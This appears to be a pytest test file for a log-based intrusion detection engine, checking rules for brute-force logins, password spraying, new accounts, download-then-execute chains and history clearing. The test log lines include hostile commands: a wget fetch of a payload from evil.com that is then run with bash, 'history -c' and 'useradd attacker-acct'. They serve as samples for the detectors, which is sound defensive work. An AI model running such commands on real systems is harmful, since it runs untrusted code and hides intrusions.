"""Unit cases per detector, boundaries, and the attack scenarios."""

import pytest
from samples import BASE, S, accepted, event, failed, frame, process

from duskwatch.operators import chains
from duskwatch.operators import thresholds as th
from duskwatch.operators.parse import events_of, parse_lines
from duskwatch.plans import alerts as fmt
from duskwatch.plans.engine import DetectionContext, detect, in_evaluation_order
from duskwatch.schema import ACCEPTED_LOGIN


def one_each(spark, fn, *groups, **kw):
    """Hit counts of several event groups, run together on separate addresses and hosts."""
    events, seq = [], 0
    for g, group in enumerate(groups):
        for e in group:
            e = dict(e, seq=seq, host=f"case{g}")
            if e["source"] != "127.0.0.1":
                e["source"] = f"198.51.100.{g}"
            events.append(e)
            seq += 1
    hits = fn(frame(spark, events), **kw).collect()
    return [sum(h["host"] == f"case{g}" for h in hits) for g in range(len(groups))], hits


def at(*offsets, user="root"):
    return [failed(0, o, user) for o in offsets]


def users(*offsets):
    return [failed(0, o, f"user{i}") for i, o in enumerate(offsets)]


def test_failed_logins(spark):
    got, hits = one_each(
        spark,
        th.failed_login_hits,
        at(0, 10, 20, 30),
        at(0, 10, 20, 30, 40),
        at(0, 61, 122, 183, 244),
        at(0, 10, 20, 30, 40, 50),
        users(0, 1, 2, 3, 4),
        at(0, 15, 30, 45, 60),
        at(0, 15, 30, 45, 60.000001),
        [failed(0, i, "") for i in range(6)],
        at(*([7] * 9)),
        at(59, 59.5, 60, 119, 119) + at(500, 501, 502, 503, 504),
    )
    assert got == [0, 1, 0, 1, 0, 1, 0, 0, 1, 1]
    assert {h["attempt_count"] for h in hits} == {5}
    alert = fmt.failed_login_alerts(th.failed_login_hits(frame(spark, [failed(i, i) for i in range(5)]))).first()
    assert alert["severity"] == "HIGH" and alert["seq"] == 4
    assert alert["metadata"] == {"attempt_count": "5", "time_window": "1m0s", "user": "root"}
    assert alert["message"] == "Detected 5 failed SSH logins from 203.0.113.10 for user root in the last minute."


def test_password_spray(spark):
    got, hits = one_each(
        spark,
        th.spray_hits,
        users(0, 1, 2, 3, 4),
        at(0, 1, 2, 3, 4),
        users(0, 61, 122, 183, 244),
        users(0, 15, 30, 45, 60),
        users(0, 15, 30, 45, 60.000001),
        users(*range(50)),
        users(0, 1, 2, 3) + [failed(0, 58, "user0"), failed(0, 61, "user9")],
    )
    assert got == [1, 0, 0, 1, 0, 1, 1]
    assert {h["user_count"] for h in hits} == {5}
    alert = fmt.spray_alerts(th.spray_hits(frame(spark, [failed(i, i, f"u{i}") for i in range(6)]))).first()
    assert alert["seq"] == 4 and alert["metadata"] == {"user_count": "5", "time_window": "1m0s"}


def test_new_country(spark):
    got, _ = one_each(
        spark,
        th.new_country_hits,
        [accepted(0, 0, "a", country="US")],
        [accepted(0, 0, "b", country="")],
        [accepted(0, 0, "c")],
        [accepted(0, 0, "d", country="US"), accepted(0, 1, "d", country="US"), accepted(0, 2, "d", country="DE")],
    )
    assert got == [1, 0, 0, 2]


def test_rapid_process(spark):
    def burst(*offsets):
        return [process(0, o, "ls", "/bin/ls") for o in offsets]

    every3 = [i * 3 for i in range(200)]
    got, hits = one_each(
        spark,
        th.rapid_process_hits,
        burst(*range(10)),
        burst(*([0] + [30] * 9)),
        burst(*([0] + [29.999999] * 9)),
        burst(*([0] * 15)),
        burst(*([0] * 10 + [299] * 10)),
        burst(*([0] * 10 + [300] * 10)),
        burst(*every3),
    )
    assert got == [1, 0, 1, 1, 1, 2, 2]
    by_case = {h["host"]: h for h in hits}
    assert by_case["case3"]["process_count"] == 10 and by_case["case2"]["process_count"] == 10
    with pytest.raises(ValueError):
        th.rapid_process_hits(frame(spark, burst(1)), th.RapidParams(cooldown_us=0))


def test_new_account(spark):
    made = process(0, 0, "useradd", "useradd -m bob")
    got, _ = one_each(
        spark,
        chains.new_account_hits,
        [made, accepted(0, 3600, "bob")],
        [made, accepted(0, 3600.000001, "bob")],
        [made, accepted(0, 5, "bob"), accepted(0, 6, "bob")],
        [accepted(0, 0, "bob"), made],
        [process(0, 0, "useradd", "useradd"), accepted(0, 5, "useradd")],
        [made, accepted(0, 4000, "bob"), process(0, 5000, "useradd", "useradd bob"), accepted(0, 5001, "bob")],
    )
    assert got == [1, 0, 1, 0, 0, 1]


def test_download_execute(spark):
    get = process(0, 0, "wget", "wget -O /tmp/p.sh http://x")
    run = "bash /tmp/p.sh"
    got, hits = one_each(
        spark,
        chains.download_execute_hits,
        [get, process(0, 120, "bash", run)],
        [get, process(0, 120.000001, "bash", run)],
        [get, process(0, 1, "bash", run), process(0, 2, "bash", run)],
        [get, process(0, 1, "curl", "curl /tmp/p.sh")],
        [process(0, 0, "curl", "curl -o /dev/shmx u"), process(0, 1, "sh", "x;/dev/shmx;y")],
        [get, process(0, 1, "wget", "wget -O /tmp/p u"), process(0, 2, "bash", run), process(0, 3, "bash", run)],
        [get, process(0, 100, "wget", "wget -O /tmp/p.sh v"), process(0, 200, "sh", "cat</tmp/p.sh|sh")],
        [process(0, 0, "wget", "wget http://x/tmp/p.sh"), process(0, 1, "bash", "bash /tmp/p.sh")],
    )
    assert got == [1, 0, 1, 0, 1, 2, 1, 0]
    assert [h["path"] for h in sorted(hits, key=lambda h: h["seq"]) if h["host"] == "case5"] == ["/tmp/p", "/tmp/p.sh"]


def test_login_escalation(spark):
    login = accepted(0, 0, "eve", country="NL")
    sudo = process(0, 600, "sudo", "sudo su -")
    late = process(0, 600.000001, "sudo", "sudo su -")
    for group, want in (([login, sudo], 1), ([login, late], 0), ([login, sudo, sudo], 1), ([login, process(0, 1, "ls", "ls")], 0)):
        events = [dict(e, seq=i) for i, e in enumerate(group)]
        df = frame(spark, events)
        assert chains.login_escalation_hits(df, th.new_country_hits(df), "host").count() == want
        # As written in the log, a process has a loopback source and links to no remote login.
        assert chains.login_escalation_hits(df, th.new_country_hits(df)).count() == 0
    with pytest.raises(ValueError):
        chains.login_escalation_hits(df, th.new_country_hits(df), "user")


def test_brute_force_evasion(spark):
    def case(gap_s, login=True, ppid="77"):
        events = [failed(i, i) for i in range(5)]
        if login:
            events.append(accepted(5, 10, sshd_pid="77"))
        events.append(process(6, 10 + gap_s, "bash", "history -c", ppid=ppid))
        return frame(spark, events)

    for df, want in ((case(300), 1), (case(300.000001), 0), (case(5, login=False), 0), (case(5, ppid="78"), 0)):
        assert chains.brute_force_evasion_hits(df, th.failed_login_hits(df)).count() == want


def lines_frame(spark, lines):
    return spark.createDataFrame([(i, "my-server", line) for i, line in enumerate(lines)], "seq long, host string, line string")


def names(spark, lines, **kw):
    events = events_of(parse_lines(lines_frame(spark, lines), 2026))
    alerts = in_evaluation_order(detect(DetectionContext(events, link_col="host", **kw)))
    return [(a["rule_name"], a["severity"]) for a in alerts.collect()]


def test_sample_log(spark):
    lines = [
        "2025-09-20T02:37:52.35611Z 1000 wget 7505 2392 0 wget -O /tmp/payload.sh http://evil.com/payload.sh",
        "2025-09-20T02:37:57.358748Z 1000 bash 8402 8417 0 bash /tmp/payload.sh",
    ]
    events = events_of(parse_lines(lines_frame(spark, lines)))
    alerts = {a["rule_name"]: a for a in detect(DetectionContext(events)).collect()}
    assert set(alerts) == {"File Download with Wget", "CorrelatedDownloadAndExecute"}
    chain = alerts["CorrelatedDownloadAndExecute"]
    assert chain["metadata"]["time_to_execution"] == "5.002638s" and chain["severity"] == "CRITICAL"
    assert chain["message"] == "Attack Chain Detected: A file was download to /tmp/payload.sh and then executed."
    assert alerts["File Download with Wget"]["metadata"] == {
        "mitre_technique_id": "T1105", "pid": "7505", "process_name": "wget",
        "command": "wget -O /tmp/payload.sh http://evil.com/payload.sh",
    }


def test_scenarios(spark):
    ssh = "Jun 19 12:00:%02d my-server sshd[%d]: %s password for %s from 198.51.100.99 port 4242 ssh2"
    brute = [ssh % (i, 2000 + i, "Failed", "root") for i in range(6)]
    brute += [ssh % (9, 3131, "Accepted", "root"), "2026-06-19T12:00:14Z 0 bash 4000 3131 0 history -c"]
    assert names(spark, brute) == [
        ("TooManyFailedLogins", "HIGH"), ("Command History Clearing", "MEDIUM"), ("CorrelatedBruteForceAndEvasion", "CRITICAL"),
    ]
    account = [
        "2026-06-19T12:00:00Z 0 useradd 4000 3131 0 useradd attacker-acct",
        "Jun 19 12:00:05 my-server sshd[99]: Accepted password for attacker-acct from 203.0.113.55 port 1 ssh2",
    ]
    assert names(spark, account) == [("Local Account Creation", "MEDIUM"), ("CorrelatedNewAccountUsage", "HIGH")]
    rapid = ["2026-06-19T12:00:00Z 1000 ls 4000 3131 0 /bin/ls"] * 15
    assert names(spark, rapid) == [("RapidProcessExecution", "MEDIUM")]


def test_watchlist_alert(spark):
    events = [event(i, BASE + i * S, ACCEPTED_LOGIN, source=ip, user="u") for i, ip in enumerate(["9.9.9.9", "8.8.8.8", ""])]
    watch = spark.createDataFrame([("9.9.9.9",), ("",)], "ip string")
    alerts = detect(DetectionContext(frame(spark, events), watchlist=watch), ["ip_watchlist"]).collect()
    assert [(a["source"], a["metadata"]) for a in alerts] == [
        ("9.9.9.9", {"mitre_tactic": "TA0011", "event_type": ACCEPTED_LOGIN})
    ]
